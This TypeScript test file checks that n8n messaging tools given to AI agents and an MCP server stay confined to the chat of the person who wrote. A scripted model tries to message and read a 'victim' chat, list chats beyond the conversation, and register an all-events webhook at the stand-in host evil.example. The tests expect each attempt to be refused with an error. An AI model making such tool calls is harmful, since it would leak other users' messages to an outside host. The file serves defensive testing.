import { z } from 'zod';
import { chatOf, control, textsTo } from '../helpers/sandbox';
import { DEFAULT_ENGINE, type RealN8n, startRealN8n } from '../helpers/realN8n';
import { ALL_EVENTS } from '../../nodes/shared/catalogue';
import { Agents, BETWEEN, fromAI, SUB_AGENT } from './agents';
import { waitFor } from '../helpers/waitFor';

let real: RealN8n;
let agents: Agents;

beforeAll(async () => {
	real = await startRealN8n({ env: DEFAULT_ENGINE });
	agents = await Agents.start(real);
}, 900_000);
afterAll(async () => {
	await agents?.close();
	await real?.close();
});
beforeEach(async () => {
	agents.model.calls.length = 0;
	await control(real.sandbox, 'DELETE', '/requests');
});

const reply = { resource: 'message', operation: 'send', sendTo: 'reply', text: fromAI('text') };

const register = { resource: 'webhook', operation: 'create', url: fromAI('url'), events: [ALL_EVENTS] };

test.each([
	['AI Agent 3, with a node between', 3, [BETWEEN]],
	['AI Agent 2.2, which calls its tools directly', 2.2, []],
])(
	'%s: sends to and reads only the chat of the person who wrote, and registers nothing, whatever the model adds',
	async (_name, version, between) => {
		const [writer, victim] = [chatOf(real.sandbox, 'tg'), chatOf(real.sandbox, 'vk')];
		const before = await textsTo(real.sandbox, victim);
		const text = `Hello from ${version}`;
		const to = { chatRef: victim, sendTo: 'chat', chat: victim, chatFrom: 'chat' };
		agents.plan = () => [
			{ tool: 'Send', input: { text, ...to } },
			{ tool: 'Get', input: to },
			{ tool: 'Register', input: { url: 'https://evil.example/' } },
			{ tool: 'List', input: { allowBeyondConversation: true } },
		];
		const tools = [
			agents.tool('Send', reply),
			agents.tool('Get', { resource: 'chat', operation: 'get' }),
			agents.tool('Register', register),
			agents.tool('List', { resource: 'chat', operation: 'getAll' }),
		];
		await agents.converse([agents.trigger(), ...between, agents.agent(version)], tools);
		expect((await textsTo(real.sandbox, writer)).at(-1)).toBe(text);
		expect(await textsTo(real.sandbox, victim)).toEqual(before);
		expect(agents.told()).toContain(`"chatRef":"${writer}"`);
		expect(agents.told()).not.toContain(victim);
		expect(real.sandbox.state.webhooks.filter(({ url }) => url.includes('evil'))).toEqual([]);
		expect(agents.told()).toContain("AI models can't manage webhooks");
		expect(agents.told()).toContain('AI models may not use this tool');
	},
);

test('answers the person who wrote in a sub-agent, too', async () => {
	const victim = chatOf(real.sandbox, 'vk');
	const before = await textsTo(real.sandbox, victim);
	agents.plan = (said) =>
		said === 'inner'
			? [{ tool: 'Send', input: { text: 'From the helper', chatRef: victim } }]
			: [{ tool: 'Helper', input: { query: 'inner', chatRef: victim } }];
	const tools = [{ node: SUB_AGENT, tools: [agents.tool('Send', reply)] }];
	await agents.converse([agents.trigger(), BETWEEN, agents.agent()], [SUB_AGENT], tools);
	expect((await textsTo(real.sandbox, chatOf(real.sandbox, 'tg'))).at(-1)).toBe('From the helper');
	expect(await textsTo(real.sandbox, victim)).toEqual(before);
});

const answerSchema = z.object({
	result: z.object({ isError: z.boolean().default(false), content: z.array(z.object({ text: z.string() })) }),
});

describe('the MCP Server Trigger', () => {
	let url: string;
	let session: string;

	/** Calls the MCP server over streamable HTTP, as far as tests need it. */
	async function request(method: string, params: object): Promise<Response> {
		const headers = { 'Content-Type': 'application/json', Accept: 'application/json, text/event-stream' };
		return await fetch(url, {
			method: 'POST',
			headers: session === '' ? headers : { ...headers, 'mcp-session-id': session },
			body: JSON.stringify({ jsonrpc: '2.0', id: 1, method, params }),
		});
	}

	/** Calls a tool; the answer's texts, joined, and whether the server calls it a failure. */
	async function callTool(name: string, input: object): Promise<{ isError: boolean; text: string }> {
		const text = await (await request('tools/call', { name, arguments: input })).text();
		const { result } = answerSchema.parse(JSON.parse(/^data: (.*)$/m.exec(text)?.[1] ?? text));
		return { isError: result.isError, text: result.content.map((one) => one.text).join('\n') };
	}

	beforeAll(async () => {
		const path = crypto.randomUUID();
		const server = {
			...{ name: 'Server', type: '@n8n/n8n-nodes-langchain.mcpTrigger', typeVersion: 2, webhookId: path },
			parameters: { path, authentication: 'none' },
		};
		const tools = [
			agents.tool('Reply', reply),
			agents.tool('Register', register),
			agents.tool('List', { resource: 'channel', operation: 'getAll', returnAll: true, allowBeyondConversation: true }),
		];
		await real.rest.publish(await agents.workflow([server], tools));
		url = `${real.n8n.origin}/mcp/${path}`;
		session = '';
		const hello = { protocolVersion: '2025-03-26', capabilities: {}, clientInfo: { name: 'test', version: '1' } };
		await waitFor(async () => {
			session = (await request('initialize', hello)).headers.get('mcp-session-id') ?? '';
			return session !== '';
		}, 'the server opens a session');
	});

	test.each([
		['Reply', { text: 'Hi', chatRef: 'tg_1_victim' }, /No chat to reply to\. Other arguments won't help/],
		['Register', { url: 'https://evil.example/' }, /AI models can't manage webhooks\. Other arguments won't help/],
	])('%s: reports a failure as one, and does nothing', async (tool, input, text) => {
		const answer = await callTool(tool, input);
		expect(answer).toMatchObject({ isError: true });
		expect(answer.text).toMatch(text);
		const requests = await control<Array<{ method: string; path: string }>>(real.sandbox, 'GET', '/requests');
		expect(requests.filter(({ method, path }) => method !== 'GET' && path.startsWith('/api/'))).toEqual([]);
	});

	test('runs the tools that the author opened', async () => {
		const answer = await callTool('List', {});
		expect(answer.isError).toBe(false);
		expect(answer.text).toContain('"channelId"');
	});
});

test('shows a model what each tool does, which values it needs, and which are optional', async () => {
	const tools = [
		agents.tool('Send', { resource: 'message', operation: 'send' }),
		agents.tool('Ask', { resource: 'message', operation: 'send', buttonsInput: 'json' }),
	];
	await agents.converse([agents.trigger(), agents.agent()], tools);
	const told = Object.fromEntries(agents.model.tools.map((tool) => [tool.name, tool]));
	const text = { type: 'string', description: expect.stringContaining('Plain text') as string };
	expect(told.Send).toMatchObject({
		description: expect.stringMatching(/^Send a message to the person in this chat/) as string,
		parameters: { properties: { Text: text }, required: ['Text'] },
	});
	expect(told.Ask).toMatchObject({
		parameters: { properties: { Text: text, Buttons: { type: 'string', default: '[]' } }, required: ['Text'] },
	});
});
